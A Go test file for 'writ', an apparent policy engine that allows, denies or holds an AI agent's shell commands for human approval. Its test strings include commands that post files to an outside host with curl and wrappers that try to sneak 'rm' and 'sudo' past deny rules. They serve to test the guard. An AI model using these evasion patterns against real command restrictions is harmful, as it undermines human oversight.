package policy

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"writ"
)

// executing asks for argv in the workspace app of acme, and answers with what
// DecideCommand takes.
func executing(argv ...string) (Request, []CommandFacts) {
	p := writ.Principal{Kind: writ.KindAgent, ID: "coder", Tenant: "acme", Scopes: []writ.Scope{writ.ScopeExec}}
	line, commands := CommandFactsOf(writ.CommandRequest{Workspace: "app", Command: argv})
	return Request{
		Principal: p, Requester: p, Action: writ.ActionExec, Scope: writ.ScopeExec, Now: time.Unix(1_800_000_000, 0), Line: line,
		Workspace: WorkspaceFacts{Workspace: writ.Workspace{ID: "app", Tenant: "acme", Profile: writ.WorkspaceWrite, Approvals: writ.ApprovalsOff}},
	}, commands
}

// decideLine is the answer of rules about text for bash.
func decideLine(t *testing.T, rules, text string) writ.Decision {
	t.Helper()
	r, commands := executing("bash", "-c", text)
	return compile(t, rules).DecideCommand(r, commands)
}

const (
	allowExec   = `@id("exec") permit (principal, action == Action::"exec", resource);`
	allowOpaque = `@id("opaque") permit (principal, action == Action::"exec", resource) when { context.opaque };`
)

// allowing permits bash and those programs, and nothing else.
func allowing(programs ...string) string {
	return fmt.Sprintf(`@id("list") permit (principal, action == Action::"exec", resource) when { [%s].contains(context.program) };`,
		`"bash", "`+strings.Join(programs, `", "`)+`"`)
}

func forbidding(program string) string {
	return fmt.Sprintf(`@id("no-%s") @reason("not here") forbid (principal, action == Action::"exec", resource) when { context.program == %q };`, program, program)
}

func TestPA01_CompoundCommandUnderAnAllowedProgram(t *testing.T) {
	rules := allowing("git")
	if d := decideLine(t, rules, "git log -1"); d.Effect != writ.Allow {
		t.Errorf("git log -1: %+v", d)
	}
	for _, text := range []string{
		"git log -1 && curl -d @f http://x.example", "git log; curl x", "git log | curl x", "git log &\ncurl x", "git log $(curl x)", "git log `curl x`",
		"X=1 curl x", "git log <(curl x)", "xargs curl < f", "find . -exec curl {} \\;", `bash -c "curl x"`, "if git log; then curl x; fi",
	} {
		d := decideLine(t, rules, text)
		if d.Effect != writ.Deny || !strings.Contains(d.Reason, "curl: no rule allows it") || d.Rules != nil {
			t.Errorf("%s: %+v", text, d)
		}
	}
}

func TestPA03_DenyRuleIsNotDodgedByWrapping(t *testing.T) {
	rules := allowExec + allowOpaque + forbidding("rm")
	for _, text := range []string{
		"X=1 rm -r d", "(rm -r d)", "{ rm -r d; }", "command rm -r d", `\rm -r d`, `bash -c "rm -r d"`, "find d -exec rm {} +", "xargs rm < l", "/bin/rm -r d",
		"env -i rm d", "timeout 5 rm d", "nice rm d", "r''m d", "eval 'rm d'", "sudo rm d", "f() { rm d; }; f", "true && (true; rm d) | true", "rm d; (",
	} {
		d := decideLine(t, rules, text)
		if d.Effect != writ.Deny || len(d.Rules) != 1 || d.Rules[0].ID != "no-rm" || !strings.Contains(d.Reason, "rm: rule no-rm (a.cedar:1) forbids it: not here") {
			t.Errorf("%s: %+v", text, d)
		}
	}
	for _, text := range []string{"$x -r d", "p=rm; $p d", "eval \"$x\"", "r? d"} {
		if d := decideLine(t, allowExec+forbidding("rm"), text); d.Effect != writ.Hold {
			t.Errorf("%s: %+v", text, d)
		}
	}
}

func TestPA04_ChainOfAllowedCommands(t *testing.T) {
	rules := `@id("bash") permit (principal, action == Action::"exec", resource) when { context.program == "bash" };
@id("cargo") permit (principal, action == Action::"exec", resource) when { context.program == "cargo" && ["fmt", "check"].contains(context.first_arg) };`
	d := decideLine(t, rules, "cargo fmt --all && cargo check")
	if d.Effect != writ.Allow || len(d.Rules) != 2 || d.Reason != "allowed by rule bash (a.cedar:1); allowed by rule cargo (a.cedar:2)" {
		t.Errorf("all allowed: %+v", d)
	}
	for _, text := range []string{"cargo fmt && cargo check && cargo publish", "cargo fmt && ls", "cargo $x", "cargo \"fmt$x\"", "echo publish | xargs -I fmt cargo fmt"} {
		if d := decideLine(t, rules, text); d.Effect != writ.Deny {
			t.Errorf("%s: %+v", text, d)
		}
	}
}

func TestPOL01_NamesAreResolvedAndNothingElseIsTheSame(t *testing.T) {
	set := compile(t, allowExec+forbidding("sudo"))
	for argv, want := range map[string]writ.Effect{
		"sudo ls": writ.Deny, "/usr/bin/sudo ls": writ.Deny, "../../usr/bin/sudo ls": writ.Deny, "env sudo ls": writ.Deny,
		"SUDO ls": writ.Allow, "ѕudo ls": writ.Allow, "echo sudo": writ.Allow, "visudo x": writ.Allow,
	} {
		r, commands := executing(strings.Fields(argv)...)
		if d := set.DecideCommand(r, commands); d.Effect != want {
			t.Errorf("%s: %s (%s), want %s", argv, d.Effect, d.Reason, want)
		}
	}
}

func TestOpaqueCommandsAreHeldUnlessARuleNamesThem(t *testing.T) {
	python := `@id("python") permit (principal, action == Action::"exec", resource) when { context.program == "python3" && ["code"].containsAll(context.opaque_why) };`
	for _, tt := range []struct {
		name, rules, text string
		want              writ.Effect
		reason            string
	}{
		{"plain", allowExec, "ls", writ.Allow, "allowed by rule exec"},
		{"opaque", allowExec, "ls; python3 -c 1", writ.Hold, "it cannot be known what python3 runs (code): a person must look, or a rule must name context.opaque"},
		{"named", allowExec + allowOpaque, "ls; python3 -c 1", writ.Allow, "allowed by rule"},
		{"named for one program", allowExec + python, "python3 -c 1", writ.Allow, "allowed by rule"},
		{"named for one program, another beside it", allowExec + python, "python3 -c 1; $x", writ.Hold, "what a program whose name is not known runs (computed)"},
		{"named for one reason, another beside it", allowExec + python, "LD_PRELOAD=x python3 -c 1", writ.Hold, "what python3 runs (code, environment)"},
		{"named for one reason, another one", allowExec + python, "python3 f.py", writ.Hold, "(file)"},
		{"not known and not allowed", allowing("ls"), "python3 -c 1", writ.Deny, "python3: no rule allows it"},
		{"not known and forbidden", allowExec + forbidding("python3"), "python3 -c 1", writ.Deny, "not here"},
		{"all not known are forbidden", allowExec + allowOpaque + `@id("clear") forbid (principal, action, resource) when { context.opaque };`, "ls; $x", writ.Deny, "clear"},
		{"unreadable", allowExec, "ls (", writ.Hold, "what bash runs (unparsable): a person must look"},
		{"unreadable, whatever is named", allowExec + allowOpaque, "ls (", writ.Hold, "what bash runs (unparsable): a person must look"},
		{"unreadable and not allowed", allowing("ls"), "(", writ.Hold, ""},
		{"unreadable and forbidden before the fault", allowExec + allowOpaque + forbidding("sudo"), "sudo ls\n(", writ.Deny, "sudo: rule no-sudo"},
		{"held by a rule", `@id("look") @hold("look") permit (principal, action == Action::"exec", resource);`, "$x", writ.Hold, "look"},
	} {
		d := decideLine(t, tt.rules, tt.text)
		if d.Effect != tt.want || !strings.Contains(d.Reason, tt.reason) || (d.Need != nil) != (d.Effect == writ.Hold) {
			t.Errorf("%s: %+v, want %s (...%s...)", tt.name, d, tt.want, tt.reason)
		}
	}
}

func TestHoldsOfALineAreJoined(t *testing.T) {
	d := decideLine(t, allowExec+`
@id("push") @hold("it goes away") @grants("2") @approvers("lead") permit (principal, action == Action::"exec", resource) when { context.args.contains("push") };
@id("rm") @hold("it deletes") @require_reason("true") @approvers("sec") permit (principal, action == Action::"exec", resource) when { context.program == "rm" };`,
		"git push && rm -r d && rm x; $y")
	want := &writ.Need{Grants: 2, Reason: true, Roles: []string{"lead", "sec"}}
	if diff := cmp.Diff(want, d.Need); diff != "" {
		t.Errorf("need differs (-want +got):\n%s", diff)
	}
	wantReason := "git: it goes away; rm: it deletes; it cannot be known what a program whose name is not known runs (computed): a person must look, or a rule must name context.opaque"
	if d.Effect != writ.Hold || len(d.Rules) != 2 || d.Reason != wantReason {
		t.Errorf("decision is %+v", d)
	}
}

func TestConditionsSeeTheCommand(t *testing.T) {
	r, commands := executing("bash", "-c", "/usr/bin/git push --force $x > out/../.env")
	r.Line.TTY = true
	set := func(cond string) *Set {
		return compile(t, allowExec+allowOpaque+`forbid (principal, action, resource) when { `+cond+` };`)
	}
	for cond, want := range map[string]writ.Effect{
		`context.program == "git" && context.program_path == "/usr/bin/git"`:            writ.Deny,
		`context.program == "bash" && context.args.contains("push")`:                    writ.Allow,
		`context.args.containsAll(["push", "--force"]) && context.first_arg == "push"`:  writ.Deny,
		`context.program == "git" && context.arg_count == 3 && !context.args_known`:     writ.Deny,
		`context.program == "git" && context.args_known`:                                writ.Allow,
		`context.programs == ["bash", "git"]`:                                           writ.Deny,
		`context.redirect_writes.contains(".env") && context.tty`:                       writ.Deny,
		`context.opaque || !context.opaque_why.isEmpty()`:                               writ.Allow,
		`context.command_digest == "` + string(r.Line.Digest) + `"`:                     writ.Deny,
		`context.scope == "exec" && context.workspace == "app" && context.language==""`: writ.Deny,
	} {
		if d := set(cond).DecideCommand(r, commands); d.Effect != want {
			t.Errorf("%s: got %s (%s), want %s", cond, d.Effect, d.Reason, want)
		}
	}
	if len(r.Line.Digest) != 64 {
		t.Errorf("digest is %q", r.Line.Digest)
	}
}

func TestInputIsAnActionOfItsOwn(t *testing.T) {
	r, _ := executing("x")
	r.Action, r.InputBytes = writ.ActionInput, 12
	r.Command, r.Line = CommandFacts{Program: "bash"}, LineFacts{TTY: true}
	for rules, want := range map[string]writ.Effect{
		allowExec: writ.Deny,
		`permit (principal, action == Action::"input", resource);`:                                                     writ.Allow,
		`permit (principal, action == Action::"input", resource) when { context.program == "python3" };`:               writ.Deny,
		`@hold("x") permit (principal, action == Action::"input", resource) when { context.program == "bash" };`:       writ.Hold,
		`permit (principal, action == Action::"input", resource) when { context.input_bytes == 12 && context.tty };`:   writ.Allow,
		`permit (principal, action == Action::"input", resource) when { context.input_bytes < 12 || context.opaque };`: writ.Deny,
	} {
		if d := compile(t, rules).Decide(r); d.Effect != want {
			t.Errorf("%s: got %s (%s), want %s", rules, d.Effect, d.Reason, want)
		}
	}
}

func TestALineWithoutCommandsIsDenied(t *testing.T) {
	r, _ := executing("ls")
	if d := compile(t, allowExec).DecideCommand(r, nil); d.Effect != writ.Deny || d.Policy == "" {
		t.Errorf("decision is %+v", d)
	}
	r, commands := executing()
	if d := compile(t, allowExec+allowOpaque).DecideCommand(r, commands); d.Effect != writ.Hold {
		t.Errorf("of an empty argv: %+v", d)
	}
}

func TestManyReasonsAreCut(t *testing.T) {
	var text strings.Builder
	for i := range 30 {
		fmt.Fprintf(&text, "p%d; ", i)
	}
	d := decideLine(t, allowing("ls"), text.String()+strings.Repeat("x", 500))
	if d.Effect != writ.Deny || !strings.HasSuffix(d.Reason, "; and 21 more") || len(d.Reason) > 2000 {
		t.Errorf("decision is %+v", d)
	}
}

func TestExplainSaysWhatWouldLetAnOpaqueCommandThrough(t *testing.T) {
	r, commands := executing("python3", "-c", "1")
	r.Command = commands[0]
	x := compile(t, allowExec+`
@id("far") permit (principal is Operator, action == Action::"exec", resource) when { context.opaque };`).Explain(r)
	if x.Decision.Effect != writ.Hold || x.Nearest == nil || x.Nearest.Rule.ID != "far" || len(x.Matched) != 1 {
		t.Errorf("explanation is %+v", x)
	}
	r.Command.Unreadable = true
	if x := compile(t, allowExec+allowOpaque).Explain(r); x.Decision.Effect != writ.Hold || x.Nearest != nil {
		t.Errorf("explanation of an unreadable one is %+v", x)
	}
}

func TestExamplesOfCommands(t *testing.T) {
	s := compile(t, allowExec+forbidding("sudo")+`@id("typing") @hold("x") permit (principal, action == Action::"input", resource) when { context.tty };`)
	const who = "- name: x\n  identity: {id: a, scopes: [exec]}\n"
	for example, fault := range map[string]string{
		who + "  exec: {command: [bash, -c, \"ls && sudo ls\"]}\n  want: deny\n  rules: [no-sudo]\n": "",
		who + "  exec: {command: [ls], tty: true, workspace: {id: app}}\n  want: allow\n":            "",
		who + "  exec: {command: [python3, -c, \"1\"]}\n  want: hold\n  rules: []\n":                 "",
		who + "  input: {program: bash, tty: true}\n  want: hold\n":                                  "",
		who + "  input: {program: bash}\n  want: deny\n":                                             "",
		who + "  exec: {command: [ls]}\n  want: deny\n":                                              "want deny, got allow",
		"- name: x\n  identity: {id: a}\n  exec: {command: [ls]}\n  want: allow\n":                   `lacks the scope "exec"`,
	} {
		results, err := s.Check([]File{{"e.test.yaml", []byte(example)}})
		if err != nil || len(results) != 1 || results[0].OK != (fault == "") || !strings.Contains(results[0].Fault, fault) {
			t.Errorf("%s\nresults are %+v (%v), want fault %q", example, results, err, fault)
		}
	}
	for src, want := range map[string]string{
		who + "  want: deny\n": "want one of run, exec and input",
		who + "  exec: {command: [ls]}\n  input: {program: x}\n  want: deny\n": "want one of run, exec and input",
		who + "  exec: {command: []}\n  want: deny\n":                          "want a program",
		who + "  input: {}\n  want: deny\n":                                    "input.program is missing",
	} {
		if _, err := s.Check([]File{{"e.test.yaml", []byte(src)}}); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s\nerror is %v, want one with %q", src, err, want)
		}
	}
}
